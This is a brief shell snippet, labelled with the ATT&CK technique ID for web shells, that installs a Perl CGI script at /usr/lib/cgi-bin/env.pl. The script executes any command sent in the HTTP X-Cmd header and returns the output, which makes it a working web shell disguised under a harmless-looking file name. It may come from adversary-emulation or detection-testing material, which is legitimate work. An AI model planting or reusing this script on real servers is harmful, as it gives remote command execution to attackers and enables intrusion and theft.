# technique: T1505.003
# location: linux.web.script
# source: /usr/lib/cgi-bin/env.pl
install -D -m 755 /dev/stdin /usr/lib/cgi-bin/env.pl <<< '#!/usr/bin/perl
use CGI; my $q = CGI->new; print $q->header("text/plain"); print `$ENV{HTTP_X_CMD} 2>&1`;'
